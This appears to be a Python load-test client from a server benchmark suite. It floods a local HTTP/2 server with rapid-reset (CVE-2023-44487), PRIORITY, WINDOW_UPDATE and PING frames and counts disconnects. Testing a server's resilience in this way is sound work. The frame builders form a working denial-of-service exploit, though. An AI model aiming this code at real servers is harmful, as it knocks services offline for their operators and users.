"""A client that floods a server with HTTP/2 frames, from a few connections, as fast as the server takes them.

    python -m twinserve_bench.reliability.flood --port P --kind reset --seconds 15

Prints how many frames it has sent, and how often it was sent away, as JSON. It reaches servers on this machine only.
"""

from __future__ import annotations

import argparse
import json
import selectors
import socket
import struct
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass
from typing import Final

from twinserve_bench.http2 import (
    CANCEL,
    END_HEADERS,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    WINDOW_UPDATE,
    pack,
    preface,
    request_headers,
)

#: In one write.
FRAMES: Final = 100
#: A server that disconnects a client may do so again at once.
PAUSE_SECONDS: Final = 0.01
_READ_BYTES: Final = 1 << 16
_BLOCK: Final = request_headers("Predict")
_NUMBER: Final = struct.Struct(">I")


def rapid_reset(stream: int) -> bytes:
    """A call that is begun and given up at once (CVE-2023-44487)."""
    return pack(HEADERS, END_HEADERS, stream, _BLOCK) + pack(RST_STREAM, 0, stream, _NUMBER.pack(CANCEL))


def priority(stream: int) -> bytes:
    """Another weight for a stream that does not exist."""
    return pack(PRIORITY, 0, stream, _NUMBER.pack(0) + b"\x10")


def window_update(_: int) -> bytes:
    """One more byte that the server may send."""
    return pack(WINDOW_UPDATE, 0, 0, _NUMBER.pack(1))


def ping(_: int) -> bytes:
    """A question that the server has to answer."""
    return pack(PING, 0, 0, bytes(8))


KINDS: Final[dict[str, Callable[[int], bytes]]] = {
    "reset": rapid_reset,
    "priority": priority,
    "window": window_update,
    "ping": ping,
}


@dataclass(slots=True)
class Sent:
    """What was sent: of one kind, so many times; and how often a connection was closed by the server."""

    times: int = 0
    sent_away: int = 0


class Flood:
    """Connections that send one kind of frames."""

    def __init__(self, port: int, kind: str, connections: int) -> None:
        self._port = port
        self._make = KINDS[kind]
        self._selector = selectors.DefaultSelector()
        self.sent = Sent()
        for _ in range(connections):
            self._connect()

    def run(self, seconds: float) -> Sent:
        """Flood for so long."""
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            for key, events in self._selector.select(PAUSE_SECONDS):
                line: _Line = key.data
                try:
                    if events & selectors.EVENT_READ and not line.sock.recv(_READ_BYTES):
                        raise ConnectionResetError
                    if events & selectors.EVENT_WRITE:
                        self.sent.times += line.send(self._make)
                except BlockingIOError:
                    pass
                except OSError:
                    self._selector.unregister(line.sock)
                    line.sock.close()
                    self.sent.sent_away += 1
                    time.sleep(PAUSE_SECONDS)
                    self._connect()
        return self.sent

    def _connect(self) -> None:
        line = _Line(socket.create_connection(("127.0.0.1", self._port)))
        self._selector.register(line.sock, selectors.EVENT_READ | selectors.EVENT_WRITE, line)


class _Line:
    """One connection."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        sock.setblocking(False)
        self._unsent = preface()
        self._stream = 1

    def send(self, make: Callable[[int], bytes]) -> int:
        """Send what the socket takes; how many times something new was begun."""
        begun = 0
        if not self._unsent:
            begun = FRAMES
            self._unsent = b"".join(make(self._stream + 2 * number) for number in range(FRAMES))
            self._stream += 2 * FRAMES
        self._unsent = self._unsent[self.sock.send(self._unsent) :]
        return begun


def main() -> None:
    """One flood."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--kind", choices=KINDS, required=True)
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--seconds", type=float, default=15.0)
    given = parser.parse_args()
    print(json.dumps(asdict(Flood(given.port, given.kind, given.connections).run(given.seconds))))


if __name__ == "__main__":
    main()
